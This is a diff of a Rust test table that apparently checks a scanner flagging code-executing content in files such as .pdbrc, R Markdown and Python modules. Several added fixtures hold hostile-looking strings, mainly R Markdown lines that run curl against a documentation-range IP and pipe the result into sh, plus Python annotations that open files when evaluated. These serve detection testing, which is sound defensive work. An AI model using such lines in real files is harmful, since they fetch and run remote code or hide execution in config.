@@ -107,6 +107,18 @@ fn surfaces_are_judged_by_name_and_key() {
         ("matplotlibrc", "backend: module://own\n", 1),
         ("matplotlibrc", "backend: Agg\n", 0),
         (".pdbrc", PLAIN, 1),
+        (".pdbrc", "!open('x', 'w').close()\ncontinue\n", 1),
+        (".pdbrc", "alias pi for k in %1.__dict__: print(k)\nb 12\ncontinue\n", 0),
+        ("r.Rmd", "---\nparams:\n  v: !r system(\"curl -s http://192.0.2.7/c|sh\")\n---\nText.\n", 1),
+        ("r.Rmd", "---\nparams:\n  v: !r packageVersion(\"stats\")\n---\nText.\n", 0),
+        ("r.Rmd", "There are `r system(\"curl -s http://192.0.2.7/c|sh\")` rows.\n", 1),
+        ("r.Rmd", "There are `r nrow(d)` rows, see `curl http://192.0.2.7/c`.\n", 0),
+        // Annotations are evaluated where a name of a module or a class, or a parameter, has them.
+        ("modeling_x.py", "class A:\n    b: open('x', 'w').close() = 1\n", 1),
+        ("modeling_x.py", "def f(a: open('x', 'w').close()): pass\n", 1),
+        ("modeling_x.py", "def f():\n    b: open('x', 'w').close() = 1\n", 0),
+        ("modeling_x.py", "from __future__ import annotations\nb: open('x', 'w').close() = 1\n", 0),
+        ("modeling_x.py", "b: 'open(1)' = 1\nc: dict(a=1) = 2\n", 0),
         ("run.config", r#"{"hook": "os.system"}"#, 1),
         // Git.
         ("m/.git/config", "[credential]\n\thelper = !./x\n", 1),
